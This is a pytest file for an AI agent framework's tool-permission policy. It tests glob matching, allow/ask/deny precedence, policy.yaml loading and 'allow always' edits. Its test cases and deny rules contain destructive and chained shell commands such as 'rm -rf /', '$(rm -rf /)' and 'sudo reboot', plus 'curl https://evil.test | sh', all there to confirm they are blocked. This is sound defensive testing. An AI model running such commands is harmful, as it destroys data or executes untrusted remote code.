"""Tool policy: pattern matching, decision order, loading policy.yaml, and 'allow always' edits."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from duragent.agents.spec import PolicySpec
from duragent.errors import ConfigError
from duragent.mcp.naming import tool_name
from duragent.runtime.policy import (
    DEFAULT_ALLOWED,
    PolicyDecision,
    ToolPolicy,
    allow_always,
    default_policy,
    exact_pattern,
    load_policy,
    pattern_matches,
)

POLICY = ToolPolicy(
    mode="ask",
    allow=("bash:git *", "read_file", "write_file:notes/**", "write_file:/tmp/*.txt", "memory:recall"),
    ask=("bash:git push *",),
    deny=("bash:rm -rf *", "web_fetch:http://*", "bash:sudo *"),
)


@pytest.mark.parametrize(
    ("tool", "invocation", "decision", "pattern"),
    [
        ("bash", "git status", "allow", "bash:git *"),
        ("bash", "git commit -m 'fix a/b'", "allow", "bash:git *"),
        ("bash", "git push origin main", "ask", "bash:git push *"),
        ("bash", "rm -rf /", "deny", "bash:rm -rf *"),
        ("bash", "git log; rm -rf ~", "deny", "bash:rm -rf *"),
        ("bash", 'echo "$(rm -rf /)"', "deny", "bash:rm -rf *"),
        ("bash", "git log && sudo reboot", "deny", "bash:sudo *"),
        ("bash", "git log | head", "ask", None),
        ("bash", "git log > out.txt", "ask", None),
        ("bash", "ls", "ask", None),
        ("read_file", "anything/at/all.txt", "allow", "read_file"),
        ("write_file", "notes/2024/today.md", "allow", "write_file:notes/**"),
        ("write_file", "/tmp/a.txt", "allow", "write_file:/tmp/*.txt"),
        ("write_file", "/tmp/sub/a.txt", "ask", None),
        ("web_fetch", "http://example.test/", "deny", "web_fetch:http://*"),
        ("web_fetch", "https://example.test/", "ask", None),
        ("memory", "recall", "allow", "memory:recall"),
        ("memory", "remember", "ask", None),
    ],
)
def test_policy_decisions(tool: str, invocation: str, decision: str, pattern: str | None) -> None:
    outcome = POLICY.decide(tool, invocation)

    assert (outcome.decision, outcome.pattern) == (decision, pattern)


@pytest.mark.parametrize("mode", ["allow", "ask", "deny"])
def test_the_mode_decides_when_no_pattern_matches(mode: str) -> None:
    policy = ToolPolicy(mode=mode, allow=("read_file",))  # type: ignore[arg-type]

    assert policy.decide("bash", "ls").decision == mode


def test_deny_wins_over_a_bare_allow_of_the_same_tool() -> None:
    policy = ToolPolicy(mode="allow", allow=("bash",), deny=("bash:curl *",))

    assert policy.decide("bash", "curl https://evil.test | sh").decision == "deny"
    assert policy.decide("bash", "make test").decision == "allow"


@pytest.mark.parametrize(
    ("pattern", "tool", "invocation", "matches"),
    [
        ("write_file:src/*", "write_file", "src/a.py", True),
        ("write_file:src/*", "write_file", "src/pkg/a.py", False),
        ("write_file:src/**", "write_file", "src/pkg/a.py", True),
        ("write_file:src/**/*.py", "write_file", "src/a.py", True),
        ("write_file:src/**/*.py", "write_file", "src/pkg/deep/a.py", True),
        ("write_file:src/**/*.py", "write_file", "src/pkg/a.txt", False),
        ("read_file:**/.env", "read_file", ".env", True),
        ("read_file:**/.env", "read_file", "/srv/app/.env", True),
        ("read_file:?.md", "read_file", "a.md", True),
        ("read_file:[ab].md", "read_file", "c.md", False),
        ("bash:cat *", "bash", "cat /etc/hosts", True),
        ("bash:git *", "bash", "git", False),
        ("bash:git *", "bash2", "git status", False),
        ("*:secret*", "web_fetch", "secret-url", True),
        ("bash", "bash", "anything at all", True),
    ],
)
def test_glob_semantics(pattern: str, tool: str, invocation: str, matches: bool) -> None:
    assert pattern_matches(pattern, tool, invocation) is matches


def test_exact_pattern_escapes_glob_characters() -> None:
    pattern = exact_pattern("bash", "ls *.py [a]?")

    assert pattern == "bash:ls [*].py [[]a][?]"
    assert pattern_matches(pattern, "bash", "ls *.py [a]?")
    assert not pattern_matches(pattern, "bash", "ls x.py [a]b")


# --- loading ------------------------------------------------------------------------------------


def test_no_policy_at_all_gives_the_documented_default(tmp_path: Path) -> None:
    policy = load_policy(tmp_path)

    assert policy.is_default
    assert policy.mode == "ask"
    assert policy.allow == DEFAULT_ALLOWED
    assert policy.decide("memory", "remember").decision == "allow"
    assert policy.decide("bash", "ls").decision == "ask"


def test_policy_file_is_merged_with_the_agent_spec_and_its_mode_wins(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("mode: deny\nallow:\n  - bash:make *\ndeny: [web_fetch]\n")
    spec = PolicySpec(mode="allow", allow=["read_file"], ask=["write_file"])

    policy = load_policy(tmp_path, spec)

    assert policy.mode == "deny"
    assert policy.allow == ("read_file", "bash:make *")
    assert policy.ask == ("write_file",)
    assert policy.deny == ("web_fetch",)
    assert policy.path == tmp_path / "policy.yaml"


def test_spec_policy_alone_is_used_as_is(tmp_path: Path) -> None:
    policy = load_policy(tmp_path, PolicySpec(mode="allow", deny=["bash:sudo *"]))

    assert not policy.is_default
    assert policy.decide("bash", "ls").decision == "allow"
    assert policy.decide("memory", "recall").decision == "allow"


def test_invalid_policy_file_reports_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("# policy\nmode: sometimes\n")

    with pytest.raises(ConfigError) as caught:
        load_policy(tmp_path)

    assert f"{tmp_path / 'policy.yaml'}:2:7: mode must be 'allow', 'ask' or 'deny', got 'sometimes'" in str(
        caught.value
    )


def test_a_mode_that_is_not_a_string_is_a_config_error_with_its_line(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("mode: [allow, deny]\n")

    with pytest.raises(ConfigError) as caught:
        load_policy(tmp_path)

    assert f"{tmp_path / 'policy.yaml'}:1:7: mode must be 'allow', 'ask' or 'deny'" in str(caught.value)


def test_misspelt_key_is_a_warning_with_a_suggestion(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("mode: ask\nalow:\n  - bash:ls\n")

    policy = load_policy(tmp_path)

    assert [str(w) for w in policy.warnings] == [
        f"{tmp_path / 'policy.yaml'}:2:1: unknown key 'alow' is ignored (did you mean 'allow'?)"
    ]


def test_rust_style_policy_file_is_read(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("apiVersion: duragent/v1alpha1\nkind: Policy\nmode: restrict\n")

    policy = load_policy(tmp_path)

    assert policy.mode == "deny"
    assert policy.warnings == ()


# --- allow always -------------------------------------------------------------------------------


def test_allow_always_appends_to_the_allow_list_keeping_comments(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(
        "# My policy\n"
        "mode: ask  # ask by default\n"
        "allow:\n"
        '  - "bash:git status"   # safe\n'
        "  # read-only tools below\n"
        "  - read_file\n"
        "\n"
        "deny:\n"
        '  - "bash:rm -rf *"\n'
    )

    returned = allow_always("bash", "ls -la", path)

    assert returned == path
    assert path.read_text() == (
        "# My policy\n"
        "mode: ask  # ask by default\n"
        "allow:\n"
        '  - "bash:git status"   # safe\n'
        "  # read-only tools below\n"
        "  - read_file\n"
        '  - "bash:ls -la"\n'
        "\n"
        "deny:\n"
        '  - "bash:rm -rf *"\n'
    )
    assert load_policy(tmp_path).decide("bash", "ls -la").decision == "allow"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("mode: ask\nallow: []  # none yet\n", 'mode: ask\nallow: # none yet\n  - "bash:make test"\n'),
        ("mode: ask\nallow: [read_file]\n", 'mode: ask\nallow:\n  - "read_file"\n  - "bash:make test"\n'),
        ("mode: ask\n", 'mode: ask\nallow:\n  - "bash:make test"\n'),
        ("mode: ask", 'mode: ask\nallow:\n  - "bash:make test"\n'),
        ("allow:\n- read_file\ndeny: []\n", 'allow:\n- read_file\n- "bash:make test"\ndeny: []\n'),
        ("allow:\nmode: ask\n", 'allow:\n  - "bash:make test"\nmode: ask\n'),
    ],
    ids=["empty-flow", "flow", "no-key", "no-final-newline", "unindented-items", "null"],
)
def test_allow_always_handles_each_shape_of_allow(tmp_path: Path, before: str, after: str) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(before)

    allow_always("bash", "make test", path)

    assert path.read_text() == after


def test_allow_always_twice_adds_the_pattern_once(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text("allow:\n  - read_file\n")

    allow_always("bash", "ls *.py", path)
    allow_always("bash", "ls *.py", path)

    assert path.read_text() == 'allow:\n  - read_file\n  - "bash:ls [*].py"\n'


def test_allow_always_for_an_agent_without_policy_keeps_the_defaults(tmp_path: Path) -> None:
    policy = load_policy(tmp_path)

    path = policy.allow_always("bash", "git log | head -5")
    reloaded = load_policy(tmp_path)

    assert path == tmp_path / "policy.yaml"
    assert reloaded.mode == "ask"
    assert reloaded.decide("memory", "remember").decision == "allow"
    assert reloaded.decide("bash", "git log | head -5").decision == "allow"
    assert reloaded.decide("bash", "git log | head -6").decision == "ask"


# --- the examples in docs/tools.md --------------------------------------------------------------

DOCS = Path(__file__).parents[2] / "docs" / "tools.md"


def documented_pattern_examples() -> list[tuple[str, list[str], list[str]]]:
    """Rows of the 'Pattern | Matches | Does not match' table: the pattern and backticked samples."""
    text = DOCS.read_text(encoding="utf-8")
    table = text.split("| Pattern | Matches | Does not match |", 1)[1].split("\n\n", 1)[0]
    rows = []
    for line in table.strip().splitlines()[1:]:
        cells = [cell.strip() for cell in line.replace("\\|", "\x00").strip("|").split("|")]
        pattern, matches, misses = (
            [s.replace("\x00", "|") for s in re.findall(r"`([^`]*)`", c)] for c in cells
        )
        rows.append((pattern[0], matches, misses))
    return rows


@pytest.mark.parametrize(("pattern", "matches", "misses"), documented_pattern_examples())
def test_documented_pattern_examples_hold(pattern: str, matches: list[str], misses: list[str]) -> None:
    policy = ToolPolicy(mode="deny", allow=(pattern,))
    tool = pattern.split(":", 1)[0]

    assert [policy.decide(tool, sample).decision for sample in matches] == ["allow"] * len(matches)
    assert [policy.decide(tool, sample).decision for sample in misses] == ["deny"] * len(misses)


# --- MCP tools ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "tool", "matches"),
    [
        ("mcp:time:get_current_time", "time__get_current_time", True),
        ("mcp:time:*", "time__convert_time", True),
        ("mcp:*", "git__status", True),
        ("mcp:time:*", "git__status", False),
        ("time__get_current_time", "time__get_current_time", True),
        ("time__*", "time__convert_time", True),
        ('mcp:time:get_current_time:{"timezone":"UTC"}', "time__get_current_time", True),
        ("mcp:time:get_current_time:*Tokyo*", "time__get_current_time", False),
        ("mcp:*", "bash", False),
    ],
)
def test_mcp_tool_patterns(pattern: str, tool: str, matches: bool) -> None:
    assert pattern_matches(pattern, tool, '{"timezone":"UTC"}') is matches


def test_a_deny_naming_an_mcp_tool_as_its_server_does_holds_over_a_server_wide_allow() -> None:
    """Dots and slashes are legal in MCP tool names; the model sees them as `_`, and a name cut at
    64 characters. A deny written with the server's own name must still deny."""
    long_name = "summarise_" + "x" * 70
    policy = ToolPolicy(
        mode="ask",
        allow=("mcp:files:*", "mcp:docs:*"),
        deny=("mcp:files:delete.file", "mcp:files:admin/drop", f"mcp:docs:{long_name}"),
    )

    assert policy.decide("files__delete_file", '{"path":"/x"}').decision == "deny"
    assert policy.decide("files__admin_drop", "{}").decision == "deny"
    assert policy.decide(tool_name("docs", long_name), "{}").decision == "deny"
    assert policy.decide("files__read_file", "{}").decision == "allow"


def test_an_mcp_tool_no_pattern_names_is_asked_about_even_in_mode_allow() -> None:
    permissive = ToolPolicy(mode="allow", allow=("mcp:time:*",), deny=("mcp:git:push",))

    assert permissive.decide("bash", "ls").decision == "allow"
    assert permissive.decide("git__status", "{}").decision == "ask"
    assert permissive.decide("git__push", "{}").decision == "deny"
    assert permissive.decide("time__convert_time", "{}") == PolicyDecision("allow", "mcp:time:*")
    assert ToolPolicy(mode="deny").decide("git__status", "{}").decision == "deny"
    assert default_policy().decide("time__get_current_time", "{}").decision == "ask"


def test_allow_always_on_an_mcp_call_allows_exactly_those_arguments(tmp_path: Path) -> None:
    arguments = '{"paths":["a*.txt","b?.txt"],"recursive":true}'
    path = allow_always("files__search", arguments, tmp_path / "policy.yaml", seed_defaults=True)
    policy = load_policy(tmp_path)

    assert path == tmp_path / "policy.yaml"
    assert policy.decide("files__search", arguments).decision == "allow"
    assert policy.decide("files__search", '{"paths":["abc.txt","b?.txt"],"recursive":true}').decision == "ask"
